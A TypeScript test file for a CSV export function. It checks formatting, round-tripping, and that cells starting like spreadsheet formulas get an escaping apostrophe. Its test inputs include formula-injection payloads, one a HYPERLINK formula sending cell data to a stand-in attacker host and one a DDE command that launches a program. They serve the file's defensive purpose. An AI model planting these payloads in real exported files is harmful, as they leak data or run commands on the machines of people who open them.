/** Tables as CSV: read back they are the same cells, and a spreadsheet runs none of them. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { csvText } from '../../src/analytics/csv.js';

interface Row {
  readonly name: string;
  readonly sum: number;
}

const columns = ['name', 'sum'] as const;
const cellsOf = (text: string): string[][] => parse(text, { record_delimiter: '\r\n' });

/** The name's cell of a row with that name, as a spreadsheet would read it. */
function nameCell(name: string): string {
  const [, cells] = cellsOf(csvText({ columns, rows: [{ name, sum: 1 }] }));
  return cells?.[0] ?? '';
}

test('a table has its heading first, and ends each line with CR LF', () => {
  const rows: Row[] = [
    { name: 'a', sum: 1.5 },
    { name: 'b', sum: -2 },
  ];
  expect(csvText({ columns, rows })).toBe('name,sum\r\na,1.5\r\nb,-2\r\n');
  expect(csvText({ columns, rows }, false)).toBe('a,1.5\r\nb,-2\r\n');
});

test('a table without rows is its heading', () => {
  expect(csvText({ columns, rows: [] })).toBe('name,sum\r\n');
  expect(csvText({ columns, rows: [] }, false)).toBe('');
});

test('columns come in the order that is asked for, and absent values are empty', () => {
  const rows: { date?: string; week?: number; open: boolean; end: string | null }[] = [
    { date: '2026-03-10', open: true, end: null },
    { week: 202610, open: false, end: 'x' },
  ];
  expect(csvText({ columns: ['end', 'week', 'date', 'open'], rows })).toBe(
    'end,week,date,open\r\n,,2026-03-10,true\r\nx,202610,,false\r\n',
  );
});

describe('text that a spreadsheet would run gets an apostrophe', () => {
  test.each([
    '=1+1',
    '=HYPERLINK("http://evil.example/?"&A1,"refund")',
    `=cmd|' /C calc'!A0`,
    '+1',
    '-2.50',
    '-1+1|cmd',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '=',
    "'=1",
  ])('%j', (payload) => {
    expect(nameCell(payload)).toBe(`'${payload}`);
  });

  test.each(['credit_card', '1+1=2', ' =1', 'a@b', "O'Hare", "'quoted'", '', 'ä-1', '12.50'])(
    '%j has none',
    (text) => {
      expect(nameCell(text)).toBe(text);
    },
  );
});

test('a number never gets one, whatever its sign', () => {
  fc.assert(
    fc.property(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })), (sum) => {
      const [, cells] = cellsOf(csvText({ columns, rows: [{ name: 'x', sum }] }));
      expect(cells?.[1]).not.toContain("'");
      expect(Number(cells?.[1])).toBe(sum === 0 ? 0 : sum);
    }),
  );
});

test('whatever the text, it is read back as it was, and no cell begins as a formula', () => {
  const text = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', 'a', '1') }),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 1 }), (names) => {
      const read = cellsOf(csvText({ columns, rows: names.map((name) => ({ name, sum: -1 })) })).slice(1);
      const cells = read.map(([cell]) => cell ?? '');
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(cells.map((cell) => cell.replace(/^'(?='*[=+\-@\t\r])/, ''))).toEqual(names);
      expect(read.map(([, sum]) => sum)).toEqual(names.map(() => '-1'));
    }),
    { numRuns: 500 },
  );
});
